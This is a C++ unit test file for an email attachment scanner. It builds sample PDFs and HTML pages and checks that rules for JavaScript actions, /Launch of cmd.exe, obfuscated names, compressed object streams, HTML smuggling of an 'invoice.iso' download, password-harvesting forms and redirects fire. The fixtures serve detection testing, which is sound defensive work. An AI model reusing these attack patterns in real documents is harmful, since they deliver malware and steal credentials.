// PDF and HTML attachments: actions, hidden names, compressed object
// streams, smuggled payloads and phishing pages.
#include <doctest/doctest.h>
#include <zlib.h>

#include <string>

#include "ai/inspect.hpp"
#include "ai/message.hpp"
#include "mail_fixtures.hpp"

using namespace ai;
using fixtures::has_rule;

namespace {

std::vector<signal> pdf_findings(std::string const &pdf, std::vector<std::string> *urls = nullptr)
{
	std::vector<signal> findings;
	inspect_pdf(pdf, findings, urls);
	return findings;
}

std::string deflate(std::string const &data)
{
	uLongf size = compressBound(data.size());
	std::string out(size, '\0');
	compress(reinterpret_cast<Bytef *>(out.data()), &size,
	         reinterpret_cast<Bytef const *>(data.data()), data.size());
	out.resize(size);
	return out;
}

std::string const pdf_head = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R";

} // namespace

TEST_CASE("PDF JavaScript, actions on open, launch and embedded files")
{
	auto js = pdf_findings(pdf_head +
	                       " /OpenAction 5 0 R >>\nendobj\n5 0 obj\n<< /S /JavaScript /JS "
	                       "(app.alert\\(1\\)) >>\nendobj\n%%EOF\n");
	CHECK(has_rule(js, "pdf.javascript"));
	CHECK(has_rule(js, "pdf.open_action"));
	CHECK_FALSE(has_rule(js, "pdf.launch"));

	auto launch = pdf_findings(pdf_head + " /AA << /O << /S /Launch /F (cmd.exe) >> >> >>\n"
	                                      "/Names << /EmbeddedFiles 7 0 R >>\n%%EOF\n");
	CHECK(has_rule(launch, "pdf.launch"));
	CHECK(has_rule(launch, "pdf.embedded_file"));
	CHECK(has_rule(launch, "pdf.open_action"));
}

TEST_CASE("an OpenAction that only picks the first page is not an action")
{
	auto view = pdf_findings(pdf_head + " /OpenAction [3 0 R /FitH null] >>\nendobj\n%%EOF\n");
	CHECK(view.empty());
}

TEST_CASE("#-escaped names are decoded and reported")
{
	auto hidden = pdf_findings(pdf_head + " /OpenAction << /S /J#61vaScript /J#53 (x) >> >>\n");
	CHECK(has_rule(hidden, "pdf.javascript"));
	CHECK(has_rule(hidden, "pdf.name_obfuscation"));
}

TEST_CASE("names inside a compressed object stream are found, and URIs collected")
{
	std::string objects = "5 0 6 40\n<< /S /Launch /F (x.exe) >> << /S /URI /URI "
	                      "(https://phish.example/login) >>";
	std::string compressed = deflate(objects);
	std::string pdf = pdf_head +
	                  " >>\nendobj\n9 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter "
	                  "/FlateDecode /Length " +
	                  std::to_string(compressed.size()) + " >>\nstream\n" + compressed +
	                  "\nendstream\nendobj\n%%EOF\n";
	CHECK(pdf.find("/Launch") == std::string::npos);
	std::vector<std::string> urls;
	auto findings = pdf_findings(pdf, &urls);
	CHECK(has_rule(findings, "pdf.launch"));
	REQUIRE(urls.size() == 1);
	CHECK(urls[0] == "https://phish.example/login");

	parsed_message m =
	        parse_message(fixtures::message_with_attachment(pdf, "filename=scan.pdf"));
	REQUIRE(m.attachments.size() == 1);
	CHECK(has_rule(m.attachments[0].findings, "pdf.launch"));
	CHECK(m.attachments[0].urls == urls);
}

TEST_CASE("a plain PDF raises nothing")
{
	auto plain = pdf_findings(pdf_head + " >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] "
	                                     "/Count 1 >>\nendobj\n%%EOF\n");
	CHECK(plain.empty());
}

TEST_CASE("HTML smuggling: a script turning a large blob into a download")
{
	std::string blob = fixtures::base64(std::string(30000, 'x'), 0);
	std::string page =
	        "<html><body><script>var d=\"" + blob +
	        "\";var b=new Blob([atob(d)],{type:'application/octet-stream'});"
	        "if(navigator.msSaveOrOpenBlob){navigator.msSaveOrOpenBlob(b,'invoice.iso')}"
	        "else{var a=document.createElement('a');a.href=URL.createObjectURL(b);"
	        "a.download='invoice.iso';a.click();}</script></body></html>";
	parsed_message m = parse_message(
	        fixtures::message_with_attachment(page, "filename=\"invoice.html\"", "text/html"));
	REQUIRE(m.attachments.size() == 1);
	CHECK(has_rule(m.attachments[0].findings, "html.smuggling"));
	CHECK(m.html.empty()); // an attached page is not the message body
}

TEST_CASE("HTML phishing pages: password forms and redirects; plain pages pass")
{
	std::vector<signal> form;
	inspect_html("<html><form action=\"https://x.example/p.php\" method=post>"
	             "<input type=\"email\"><INPUT TYPE=\"PASSWORD\" name=p></form></html>",
	             form);
	CHECK(has_rule(form, "html.password_form"));
	CHECK_FALSE(has_rule(form, "html.smuggling"));

	std::vector<signal> redirect;
	inspect_html("<html><script>window.location='https://x.example/'</script></html>",
	             redirect);
	CHECK(has_rule(redirect, "html.redirect"));

	std::vector<signal> plain;
	inspect_html("<html><body><p>Minutes of the meeting.</p><img src=\"data:image/png;base64,"
	             "iVBORw0KGgo=\"></body></html>",
	             plain);
	CHECK(plain.empty());
}
